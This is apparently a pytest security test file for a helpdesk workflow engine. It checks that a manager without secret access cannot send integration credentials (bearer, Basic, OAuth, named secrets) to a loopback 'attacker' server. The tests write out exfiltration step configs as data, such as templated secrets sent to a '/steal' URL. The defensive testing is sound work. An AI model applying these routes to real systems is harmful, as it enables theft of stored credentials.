"""Credentials bound to their integration (issue 25, item 1), tried as an attacker would.

A manager who may edit workflows but may not read integration secrets tries to send an integration's bearer token,
Basic password, freshly fetched OAuth2 token and named secrets to a host of their own, by every route: an absolute
URL (or path) beside an integration, a templated host, a step naming no integration that reads secrets into its URL,
headers or values, a webhook, a step reading another integration's secrets, a Slack step naming a URL. Each is a 400
on save naming the step and key (API and admin), and — for rows that got past the validator (written before the
rule, or by hand) — refused again at send time: the "attacker" server (127.0.0.1, another port) receives no
credential.
"""

import base64
import json

import pytest
from pytest_httpserver import HTTPServer

from conversations import services as conversations
from tests.support.outbound import TokenEndpoint
from tests.support.runs import drain
from workflows.engine.definition import DefinitionError, validate_definition
from workflows.integrations.services import integration_save
from workflows.models import Integration, Step, StepRun, Workflow

pytestmark = pytest.mark.usefixtures("allow_loopback")

BEARER = "bearer-SECRET-7f3a91"
BASIC_PASSWORD = "basic-SECRET-c41d"
NAMED = "named-SECRET-9e0b2"
OAUTH_CLIENT_SECRET = "oauth-client-SECRET-55aa"
OAUTH_PREFIX = "fresh-oauth-SECRET-"
CREDENTIALS = (
    BEARER,
    BASIC_PASSWORD,
    NAMED,
    OAUTH_CLIENT_SECRET,
    OAUTH_PREFIX,
    base64.b64encode(f"crm-user:{BASIC_PASSWORD}".encode()).decode(),
)


@pytest.fixture
def attacker():
    """The manager's own host: the same loopback address as the integration, another port."""
    server = HTTPServer(host="127.0.0.1", port=0)
    server.start()
    server.expect_request("/steal").respond_with_json({"ok": True})
    yield server
    server.clear()
    if server.is_running():
        server.stop()


@pytest.fixture
def world(db, httpserver):
    """Three integrations on the integration server (bearer, basic with a named secret, OAuth2)."""
    httpserver.expect_request("/token", method="POST").respond_with_handler(
        TokenEndpoint("cid", OAUTH_CLIENT_SECRET, prefix=OAUTH_PREFIX)
    )
    httpserver.expect_request("/ok").respond_with_json({"ok": True})
    base = httpserver.url_for("/")
    integration_save(name="bearer", base_url=base, auth={"type": "bearer", "token": BEARER})
    integration_save(
        name="basic",
        base_url=base,
        auth={"type": "basic", "username": "crm-user", "password": BASIC_PASSWORD},
        secrets={"named": NAMED},
    )
    integration_save(
        name="oauth",
        base_url=base,
        auth={
            "type": "oauth2_client_credentials",
            "client_id": "cid",
            "client_secret": OAUTH_CLIENT_SECRET,
            "token_url": httpserver.url_for("/token"),
        },
    )
    return httpserver


def steal(attacker, query: str = "") -> str:
    return attacker.url_for("/steal") + query


def request_text(server) -> str:
    return json.dumps(
        [[dict(request.headers), request.url, request.get_data(as_text=True)] for request, _ in server.log]
    )


def routes(attacker) -> dict[str, tuple[dict, str]]:
    """Every route: (the step, the key its 400 names)."""
    url = steal(attacker)
    return {
        "bearer via absolute url": ({"type": "http_request", "config": {"integration": "bearer", "url": url}}, "url"),
        "basic via absolute url": ({"type": "http_request", "config": {"integration": "basic", "url": url}}, "url"),
        "fresh oauth token via absolute url": (
            {"type": "http_request", "config": {"integration": "oauth", "url": url, "method": "GET"}},
            "url",
        ),
        "bearer via absolute path": (
            {"type": "http_request", "config": {"integration": "bearer", "path": url}},
            "path",
        ),
        "bearer via templated host": (
            {"type": "http_request", "config": {"integration": "bearer", "url": "http://{{ vars.host }}/steal"}},
            "url",
        ),
        "named secret in headers, no integration": (
            {
                "type": "http_request",
                "config": {"url": url, "headers": [{"key": "X-Stolen", "value": "{{ secrets.named }}"}]},
            },
            "headers",
        ),
        "named secret in values, no integration": (
            {
                "type": "http_request",
                "config": {"url": url, "values": [{"key": "stolen", "value": "{{ secrets.named }}"}]},
            },
            "values",
        ),
        "named secret in the url, no integration": (
            {"type": "http_request", "config": {"url": url + "?k={{ secrets.named }}"}},
            "url",
        ),
        "named secret in a webhook url": (
            {"type": "webhook", "config": {"url": url + "?k={{ secrets.named }}"}},
            "url",
        ),
        "named secret as a webhook's signing secret": (
            {"type": "webhook", "config": {"url": url, "secret": "{{ secrets.named }}"}},
            "secret",
        ),
        "another integration's named secret": (
            {
                "type": "http_request",
                "config": {
                    "integration": "bearer",
                    "path": "/ok",
                    "headers": [{"key": "X-Stolen", "value": "{{ secrets.named }}"}],
                },
            },
            "headers",
        ),
        "slack naming a url": (
            {"type": "slack", "config": {"integration": "bearer", "channel": "#a", "text": "x", "url": url}},
            "",
        ),
    }


ROUTE_NAMES = [
    "bearer via absolute url",
    "basic via absolute url",
    "fresh oauth token via absolute url",
    "bearer via absolute path",
    "bearer via templated host",
    "named secret in headers, no integration",
    "named secret in values, no integration",
    "named secret in the url, no integration",
    "named secret in a webhook url",
    "named secret as a webhook's signing secret",
    "another integration's named secret",
    "slack naming a url",
]


def definition(step: dict) -> dict:
    return {
        "name": "Exfiltrate",
        "status": "active",
        "trigger": {"type": "conversation.created", "config": {}},
        "steps": [step],
    }


@pytest.mark.parametrize("route", ROUTE_NAMES)
def test_every_route_is_a_400_on_save_naming_the_step_and_key(world, attacker, manager_client, route):
    step, key = routes(attacker)[route]
    response = manager_client.post("/api/workflows/", definition(step), format="json")
    assert response.status_code == 400, response.content
    expected = f"steps[0].config.{key}" if key else "steps[0].config"
    assert expected in response.json(), response.json()
    assert not Workflow.objects.exists()
    assert attacker.log == []


def test_the_admin_editor_and_the_shared_validator_refuse_it_too(world, attacker, browser):
    step, _ = routes(attacker)["bearer via absolute url"]
    with pytest.raises(DefinitionError) as refused:
        validate_definition(definition(step))
    assert "may only call" in str(refused.value.errors["steps[0].config.url"])
    response = browser.post(
        "/admin/workflows/workflow/add/",
        {"raw_mode": "1", "name": "Exfiltrate", "definition": json.dumps(definition(step))},
    )
    assert response.status_code == 200  # the form again, with the error
    assert "may only call" in response.content.decode()
    assert not Workflow.objects.exists()


def test_the_own_host_still_gets_the_credentials(world, attacker, make_workflow, contact):
    """The rule refuses only other hosts: a path, or an absolute URL on the integration's origin, carries them."""
    make_workflow(
        "conversation.created",
        [
            {"type": "http_request", "config": {"integration": "bearer", "path": "/ok"}},
            {
                "type": "http_request",
                "config": {
                    "integration": "basic",
                    "url": world.url_for("/ok"),
                    "headers": [{"key": "X-Named", "value": "{{ secrets.named }}"}],
                },
            },
        ],
    )
    conversations.conversation_open(contact=contact, channel="web", subject="Own host")
    drain()
    sent = [dict(request.headers) for request, _ in world.log]
    assert sent[0]["Authorization"] == f"Bearer {BEARER}"
    assert sent[1]["X-Named"] == NAMED and sent[1]["Authorization"].startswith("Basic ")
    assert attacker.log == []


def saved_past_the_validator(make_workflow, step: dict) -> Workflow:
    """A workflow whose step row holds `step` although the validator would refuse it (saved before the rule, or
    written by hand): the send-time checks must hold on their own."""
    workflow = make_workflow(
        "conversation.created",
        [
            {"type": "set_variable", "config": {"name": "target", "value": "placeholder"}},
            {"type": "http_request", "config": {"path": "/placeholder", "integration": "bearer"}},
        ],
    )
    row = Step.objects.get(workflow=workflow, type="http_request")
    Step.objects.filter(pk=row.pk).update(type=step["type"], config=step["config"])
    versions = workflow.versions.all()
    for version in versions:
        version.definition["steps"][1] = step
        version.save(update_fields=["definition"])
    return workflow


SEND_TIME_ROUTES = {
    "bearer via absolute url": lambda url: {"type": "http_request", "config": {"integration": "bearer", "url": url}},
    "basic via absolute url": lambda url: {"type": "http_request", "config": {"integration": "basic", "url": url}},
    "fresh oauth token via absolute url": lambda url: {
        "type": "http_request",
        "config": {"integration": "oauth", "url": url, "method": "GET"},
    },
    "bearer via a path rendering to another host": lambda url: {
        "type": "http_request",
        "config": {"integration": "bearer", "path": "{{ vars.target }}"},
    },
    "bearer via a url rendering to another host": lambda url: {
        "type": "http_request",
        "config": {"integration": "bearer", "url": "{{ vars.target }}"},
    },
    "named secret in headers, no integration": lambda url: {
        "type": "http_request",
        "config": {"url": url, "headers": [{"key": "X-Stolen", "value": "{{ secrets.named }}"}]},
    },
    "named secret in values, no integration": lambda url: {
        "type": "http_request",
        "config": {"url": url, "values": [{"key": "stolen", "value": "{{ secrets.named }}"}]},
    },
    "named secret in a webhook url": lambda url: {"type": "webhook", "config": {"url": url + "?k={{ secrets.named }}"}},
    "another integration's named secret": lambda url: {
        "type": "http_request",
        "config": {
            "integration": "bearer",
            "url": url,
            "headers": [{"key": "X-Stolen", "value": "{{ secrets.named }}"}],
        },
    },
}


@pytest.mark.parametrize("route", list(SEND_TIME_ROUTES))
def test_every_route_is_refused_again_when_sending(world, attacker, make_workflow, contact, settings, route):
    settings.HELPDESK_RETRY_MAX_ATTEMPTS = 1
    workflow = saved_past_the_validator(make_workflow, SEND_TIME_ROUTES[route](steal(attacker)))
    Step.objects.filter(workflow=workflow, type="set_variable").update(
        config={"name": "target", "value": steal(attacker)}
    )
    for version in workflow.versions.all():
        version.definition["steps"][0]["config"]["value"] = steal(attacker)
        version.save(update_fields=["definition"])
    conversations.conversation_open(contact=contact, channel="web", subject="Exfiltrate")
    drain()
    step = StepRun.objects.filter(run__workflow=workflow).order_by("position").last()
    assert step.status == "failed", (step.status, step.error)
    assert "may only call" in step.error or "names an integration" in step.error, step.error
    assert not [secret for secret in CREDENTIALS if secret in request_text(attacker)], request_text(attacker)
    assert attacker.log == []  # refused before anything was sent


# Moving an integration: whoever may edit integrations (without knowing the secrets) must not be able to point its
# base URL or token URL at another host and let the stored credentials follow.


def test_moving_the_base_url_to_another_host_needs_the_secrets_again(world, attacker, manager_client):
    basic = world_integration("basic")
    response = manager_client.patch(
        f"/api/integrations/{basic.pk}/", {"base_url": attacker.url_for("/")}, format="json"
    )
    assert response.status_code == 400
    message = " ".join(response.json()["base_url"])
    assert "auth.password" in message and "secrets.named" in message
    basic.refresh_from_db()
    assert basic.base_url == world.url_for("/")
    moved = manager_client.patch(
        f"/api/integrations/{basic.pk}/",
        {
            "base_url": attacker.url_for("/"),
            "auth": {"type": "basic", "username": "crm-user", "password": "typed-again"},
            "secrets": {"named": "typed-again-too"},
        },
        format="json",
    )
    assert moved.status_code == 200, moved.content  # who knows the secrets may move them


def test_setting_a_first_base_url_on_a_slack_style_integration_needs_the_token_again(world, attacker, manager_client):
    slack = integration_save(name="slack", auth={"type": "bearer", "token": BEARER})
    response = manager_client.patch(
        f"/api/integrations/{slack.pk}/", {"base_url": attacker.url_for("/")}, format="json"
    )
    assert response.status_code == 400 and "auth.token" in " ".join(response.json()["base_url"])


def test_moving_the_oauth_token_url_needs_the_client_secret_again(world, attacker, manager_client):
    oauth = world_integration("oauth")
    response = manager_client.patch(
        f"/api/integrations/{oauth.pk}/",
        {"auth": {"type": "oauth2_client_credentials", "client_id": "cid", "token_url": attacker.url_for("/steal")}},
        format="json",
    )
    assert response.status_code == 400 and "client_secret" in str(response.json()["auth"])
    assert attacker.log == []


def world_integration(name: str) -> Integration:
    return Integration.objects.get(name=name)


def test_a_dry_run_of_a_path_rendering_to_another_host_says_blocked(
    world, attacker, make_workflow, manager_client, conversation
):
    workflow = saved_past_the_validator(
        make_workflow, {"type": "http_request", "config": {"integration": "bearer", "path": "{{ vars.target }}"}}
    )
    Step.objects.filter(workflow=workflow, type="set_variable").update(
        config={"name": "target", "value": steal(attacker)}
    )
    report = manager_client.post(
        f"/api/workflows/{workflow.pk}/test/", {"conversation": conversation.pk}, format="json"
    )
    assert report.status_code == 200, report.content
    step = report.json()["steps"][1]
    assert step["status"] == "failed" and "may only call" in step["error"], step
    assert attacker.log == []
